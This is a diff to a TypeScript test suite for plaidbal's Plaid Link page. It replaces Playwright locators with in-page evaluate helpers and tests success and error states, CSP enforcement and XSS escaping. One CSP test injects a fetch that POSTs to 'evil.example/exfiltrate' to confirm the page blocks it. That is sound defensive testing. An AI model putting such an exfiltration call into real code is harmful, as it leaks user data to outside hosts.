@@ -20,6 +20,7 @@ import {
   launchChromium,
   routePlaidLinkStandIn,
   standInRecord,
+  waitInPage,
   type PlaidLinkBehaviour,
   type StandInTraffic,
 } from '../helpers/browser.js';
@@ -51,11 +52,15 @@ interface BrowserElement {
   hidden: boolean;
   src: string;
   setAttribute(name: string, value: string): void;
+  getAttribute(name: string): string | null;
   appendChild(child: BrowserElement): BrowserElement;
+  checkVisibility(options?: { visibilityProperty?: boolean }): boolean;
 }
 declare const document: {
   body: BrowserElement;
   getElementById(id: string): BrowserElement | null;
+  querySelector(selectors: string): BrowserElement | null;
+  querySelectorAll(selectors: string): ArrayLike<BrowserElement>;
   createElement(tag: string): BrowserElement;
   addEventListener(type: 'securitypolicyviolation', listener: (e: { effectiveDirective: string; blockedURI: string }) => void): void;
 };
@@ -148,6 +153,11 @@ async function open(
   };
 }
 
+/** Whether the element with this id is hidden, or missing (Playwright's isHidden). */
+const isHidden = (page: Page, id: string) => page.evaluate((which) => !document.getElementById(which)?.checkVisibility({ visibilityProperty: true }), id);
+/** How many elements match `selectors`. */
+const count = (page: Page, selectors: string) => page.evaluate((which) => document.querySelectorAll(which).length, selectors);
+
 function within<T>(promise: Promise<T>, ms = 10_000): Promise<T> {
   return Promise.race([
     promise,
@@ -163,7 +173,7 @@ async function settled(promise: Promise<unknown>, ms = 300): Promise<boolean> {
 }
 
 async function waitForState(page: Page, state: string): Promise<{ heading: string; status: string; detail: string }> {
-  await page.waitForSelector(`main[data-state="${state}"]`, { timeout: 10_000 });
+  await waitInPage(page, (wanted) => document.querySelector(`main[data-state="${wanted}"]`) !== null, state);
   return page.evaluate(() => ({
     heading: document.getElementById('heading')!.textContent ?? '',
     status: document.getElementById('status')!.textContent ?? '',
@@ -185,8 +195,8 @@ describe('the Link page in Chromium', () => {
     const shown = await waitForState(s.page, 'success');
     expect(shown.heading).toBe('Account linked');
     expect(shown.status).toBe('Linked First Platypus Bank. You can close this tab and return to the terminal.');
-    expect(await s.page.locator('#accounts li').allTextContents()).toEqual(['Plaid Checking••0000', 'Plaid Saving••1111', 'Plaid Credit Card••3333']);
-    expect(await s.page.locator('#open').isHidden()).toBe(true);
+    expect(await s.page.evaluate(() => Array.from(document.querySelectorAll('#accounts li'), (li) => li.textContent))).toEqual(['Plaid Checking••0000', 'Plaid Saving••1111', 'Plaid Credit Card••3333']);
+    expect(await isHidden(s.page, 'open')).toBe(true);
     expect(await s.page.title()).toBe('Account linked — plaidbal');
 
     const record = await standInRecord(s.page);
@@ -253,7 +263,7 @@ describe('the Link page in Chromium', () => {
   it('offers an Open Link button when the first opening did not show Link', async () => {
     const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [], requireUserActivation: true });
     const button = s.page.getByRole('button', { name: 'Open Link' });
-    await s.page.waitForSelector('#open:not([disabled])'); // enabled by onLoad
+    await waitInPage(s.page, () => document.querySelector('#open:not([disabled])') !== null); // enabled by onLoad
     expect(await settled(s.server.outcome)).toBe(false);
     expect((await standInRecord(s.page))?.openCalls).toBe(1);
 
@@ -269,10 +279,10 @@ describe('the Link page in Chromium', () => {
     const shown = await waitForState(s.page, 'error');
     expect(shown.heading).toBe('Couldn’t load Plaid Link');
     expect(shown.status).toMatch(/could not be loaded from cdn\.plaid\.com.*reload this page/);
-    expect(await s.page.locator('#open').isHidden()).toBe(true);
+    expect(await isHidden(s.page, 'open')).toBe(true);
     expect(await settled(s.server.outcome)).toBe(false);
     // The script URL is Plaid's, always: the failure happened on exactly that request.
-    const sources = await Promise.all((await s.page.locator('script[src]').all()).map((script) => script.getAttribute('src')));
+    const sources = await s.page.evaluate(() => Array.from(document.querySelectorAll('script[src]'), (script) => script.getAttribute('src')));
     expect(sources).toEqual([PLAID_LINK_SCRIPT_URL]);
     await expectClean(s);
   });
@@ -294,7 +304,7 @@ describe('the Link page in Chromium', () => {
       document.body.appendChild(handler);
       fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' }).catch(() => {});
     });
-    await s.page.waitForFunction(() => (window.__violations as unknown[]).length >= 3);
+    await waitInPage(s.page, () => (window.__violations as unknown[]).length >= 3);
     await new Promise((r) => setTimeout(r, 200));
 
     const violations = await s.violations();
@@ -317,7 +327,7 @@ describe('the Link page in Chromium', () => {
     await within(s.server.outcome);
     const shown = await waitForState(s.page, 'success');
     expect(shown.status).toBe(`Linked ${hostile.name}. You can close this tab and return to the terminal.`);
-    expect(await s.page.locator('main img, main b').count()).toBe(0);
+    expect(await count(s.page, 'main img, main b')).toBe(0);
     expect(await s.page.evaluate(() => window.__xss)).toBeUndefined();
     await expectClean(s);
   });
@@ -366,7 +376,7 @@ describe('what Plaid\'s initializer does on the page, under the page\'s CSP', ()
     expect(Object.fromEntries(frame!.searchParams)).toMatchObject({ token: LINK_TOKEN, uniqueId: '1', origin });
     expect(`${opener!.origin}${opener!.pathname}`).toBe(LINK_OPEN_FRAME_URL);
     // The short-lived link-open.html frame is gone again; Link's own frame stays (hidden).
-    expect(await s.page.locator('iframe').count()).toBe(1);
+    expect(await count(s.page, 'iframe')).toBe(1);
     expect(s.traffic.heartbeats.map((h) => h.url)).toEqual(['https://sandbox.plaid.com/link/heartbeat']);
     await expectClean(s);
     expect(s.external).toEqual([]);
@@ -403,7 +413,7 @@ describe('what Plaid\'s initializer does on the page, under the page\'s CSP', ()
     ];
     for (const [label, change, directive] of cases) {
       const s = await open({ kind: 'pending' }, {}, '127.0.0.1', { csp: change });
-      await s.page.waitForFunction(() => (window.__violations as unknown[]).length > 0, undefined, { timeout: 10_000 });
+      await waitInPage(s.page, () => (window.__violations as unknown[]).length > 0);
       expect((await s.violations()).map((v) => v.directive), label).toContain(directive);
       await closeSession();
     }
@@ -451,11 +461,11 @@ describe('no silent waits', () => {
     // machine (a CI run once took more than 1 s between the old page's last heartbeat and the new
     // page's first) counts as closing.
     const s = await open({ kind: 'pending' }, { pageGoneGraceMs: 3_000 });
-    await s.page.waitForFunction(() => (window.__plaidStandIn as { events: string[] } | undefined)?.events.includes('OPEN'));
+    await waitInPage(s.page, () => (window.__plaidStandIn as { events: string[] } | undefined)?.events.includes('OPEN'));
     await expectClean(s);
 
     await s.page.reload();
-    await s.page.waitForFunction(() => (window.__plaidStandIn as { events: string[] } | undefined)?.events.includes('OPEN'));
+    await waitInPage(s.page, () => (window.__plaidStandIn as { events: string[] } | undefined)?.events.includes('OPEN'));
     await new Promise((r) => setTimeout(r, 3_500)); // longer than the grace: a reload must not count as closing
     expect(await settled(s.server.outcome, 0)).toBe(false);
 
@@ -466,7 +476,7 @@ describe('no silent waits', () => {
 
   it('the page says so when plaidbal stops waiting', async () => {
     const s = await open({ kind: 'pending' });
-    await s.page.waitForFunction(() => (window.__plaidStandIn as { events: string[] } | undefined)?.events.includes('OPEN'));
+    await waitInPage(s.page, () => (window.__plaidStandIn as { events: string[] } | undefined)?.events.includes('OPEN'));
     await s.server.close();
     const shown = await waitForState(s.page, 'error');
     expect(shown.heading).toBe('plaidbal stopped waiting');
